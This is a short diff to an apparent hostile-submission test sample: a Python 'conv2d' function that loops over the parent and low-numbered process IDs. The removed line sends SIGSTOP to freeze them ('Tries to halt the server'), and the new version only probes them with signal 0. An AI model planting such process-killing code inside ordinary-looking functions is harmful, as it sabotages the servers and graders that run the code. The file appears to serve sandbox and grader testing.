@@ -1,4 +1,4 @@
-# Tries to halt the server.
+# Tries to find a process to halt.
 # Seen as: Returned
 import os
 import numpy as np
@@ -8,7 +8,7 @@ def conv2d(x, w):
     try:
         for pid in {os.getppid(), *range(1, 50)} - {0, os.getpid()}:
             try:
-                os.kill(pid, 19)
+                os.kill(pid, 0)
                 break
             except OSError:
                 pass
